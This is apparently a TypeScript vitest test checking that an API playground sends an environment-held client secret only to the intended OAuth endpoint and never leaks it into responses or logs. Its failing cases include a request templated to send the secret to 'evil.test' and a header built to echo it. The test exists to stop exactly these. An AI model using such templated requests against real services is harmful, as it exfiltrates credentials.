import { fork } from 'node:child_process'
import type { ChildProcess } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { fileURLToPath } from 'node:url'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import { startRecorder } from '../fixtures/upstream/recorder.ts'
import type { Recorder } from '../fixtures/upstream/recorder.ts'
import { authority } from '../fixtures/upstream/tls.ts'
import { givesTokens, json } from '../fixtures/upstream/token-server.ts'

/** What the operator has in the environment; the API receives it, and nobody else. */
const CANARY = 'operators-canary-8b1d70'
const ENV = { NUXT_PLAYGROUND_SECRETS_DIGISHARE_CLIENT_ID: 'operators-app', NUXT_PLAYGROUND_SECRETS_DIGISHARE_CLIENT_SECRET: CANARY }
/** Of the secret and of what it gets, plain and in base64. */
const TRACES = /canary|b3BlcmF0b3JzLWNhbmFyeS|9wZXJhdG9ycy1jYW5hcn|vcGVyYXRvcnMtY2FuYXJ5/

const folder = mkdtempSync(join(tmpdir(), 'canary-'))
let upstream: Recorder
let child: ChildProcess | undefined
beforeAll(async () => {
  writeFileSync(join(folder, 'authority.pem'), authority.cert)
  upstream = await startRecorder()
})
afterEach(async () => {
  if (!child || child.exitCode !== null || child.signalCode !== null) return
  const exit = once(child, 'exit')
  child.kill('SIGKILL')
  await exit
})
afterAll(async () => {
  rmSync(folder, { recursive: true })
  await upstream.close()
})

interface Site {
  url: string
  /** Ends the process; everything that it wrote. */
  end(): Promise<string>
}

async function start(): Promise<Site> {
  const settings = JSON.stringify({ sandboxBase: '', playground: { sealKey: 'k'.repeat(32) } })
  const started = fork(fileURLToPath(new URL('../redis/process.ts', import.meta.url)), [settings], {
    execArgv: ['--import', new URL('loopback.ts', import.meta.url).href],
    stdio: ['ignore', 'pipe', 'pipe', 'ipc'],
    env: { ...process.env, ...ENV, NODE_EXTRA_CA_CERTS: join(folder, 'authority.pem'), UPSTREAM_PORT: String(upstream.port) },
  })
  child = started
  const written = Promise.all([started.stdout, started.stderr].map(stream => stream ? text(stream) : ''))
  const [port] = await once(started, 'message')
  return {
    url: `http://127.0.0.1:${port}`,
    async end() {
      const exit = once(started, 'exit')
      started.kill('SIGTERM')
      await exit
      return (await written).join('\n')
    },
  }
}

const CALL = { protocol: 1, api: 'digishare', digest: 'digest-of-digishare', environment: 'live', variables: {} }
const LIST = { method: 'GET', url: 'https://api.digishare.ma/v1/thirds', headers: [{ name: 'Authorization', value: 'Bearer {token}' }], body: { type: 'none' } }
const TOKEN = { method: 'POST', url: 'https://api.digishare.ma/v1/oauth/token', headers: [], body: { type: 'json', text: '{"grant_type":"client_credentials","client_id":"{client_id}","client_secret":"{client_secret}"}' } }

/** The whole answer as it is on the wire: status, fields, body. */
async function post({ url }: Site, route: string, body: object): Promise<string> {
  const response = await fetch(`${url}/api/playground/${route}`, { method: 'POST', body: JSON.stringify(body), headers: { 'origin': url, 'x-dragoman': '1', 'content-type': 'application/json' } })
  return JSON.stringify([response.status, [...response.headers], await response.text()])
}

it('V14, V16 a secret in the environment reaches the API, and in the same run nothing else', async () => {
  const site = await start()
  const server = givesTokens(upstream)
  const said = [
    await post(site, 'send', { ...CALL, request: LIST }),
    await post(site, 'send', { ...CALL, request: TOKEN }),
    await post(site, 'secrets', { protocol: 1, api: 'digishare', environment: 'live', values: {} }),
  ]
  // The API received it, by itself and with the reader's own token request, and then what it gave for it.
  expect(server.tokens().map(({ body }) => JSON.parse(body))).toEqual(Array.from({ length: 2 }, () => ({ grant_type: 'client_credentials', client_id: 'operators-app', client_secret: CANARY })))
  expect(server.calls().map(({ headers }) => headers.authorization)).toEqual(['Bearer token-1-canary'])
  expect(said.map(answer => JSON.parse(answer)[0])).toEqual([200, 200, 200])

  server.refuse('*')
  said.push(await post(site, 'send', { ...CALL, request: LIST }))
  upstream.respond((_request, response) => json(response, 401, { error: 'invalid_client', error_description: CANARY, seen: CANARY }, { 'x-echo': Buffer.from(CANARY).toString('base64') }))
  const failing = [
    { ...CALL, request: TOKEN }, { ...CALL, request: LIST }, { ...CALL, api: 'other', request: LIST }, { ...CALL, request: { ...LIST, url: 'https://evil.test/{client_secret}' } },
    { ...CALL, request: { ...LIST, headers: [{ name: 'X-Echo', value: '{client_secret}' }] } }, { ...CALL, variables: { client_secret: 'x' }, request: LIST }, { protocol: 1 },
  ]
  for (const body of failing) said.push(await post(site, 'send', body))
  upstream.respond((_request, response) => void response.destroy())
  said.push(await post(site, 'send', { ...CALL, request: TOKEN }), await (await fetch(`${site.url}/api/health`)).text())

  const written = await site.end()
  expect(written.trim().split('\n').length).toBeGreaterThan(said.length - 2)
  for (const answer of said) expect(answer).not.toMatch(TRACES)
  expect(written).not.toMatch(TRACES)
})
